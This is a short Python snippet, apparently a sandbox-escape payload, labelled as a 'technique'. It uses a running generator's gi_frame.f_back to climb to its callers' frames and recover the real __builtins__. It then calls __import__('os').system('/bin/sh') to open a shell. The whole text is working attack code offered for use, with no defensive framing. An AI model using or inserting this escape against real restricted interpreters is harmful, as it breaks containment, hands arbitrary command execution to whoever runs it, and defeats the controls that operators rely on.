# technique: generator gi_frame.f_back walks from a running generator to its callers and grabs their real __builtins__
leak = []

def spy():
    # while the generator is executing, gi_frame.f_back is the frame that resumed it
    f = leak_gen.gi_frame.f_back
    while f is not None:
        leak.append(f.f_globals)
        f = f.f_back
    yield

leak_gen = spy()
next(leak_gen)
for glb in leak:
    bi = glb.get("__builtins__")
    if bi is not None:
        bi = bi if isinstance(bi, dict) else bi.__dict__
        bi["__import__"]("os").system("/bin/sh")
        break
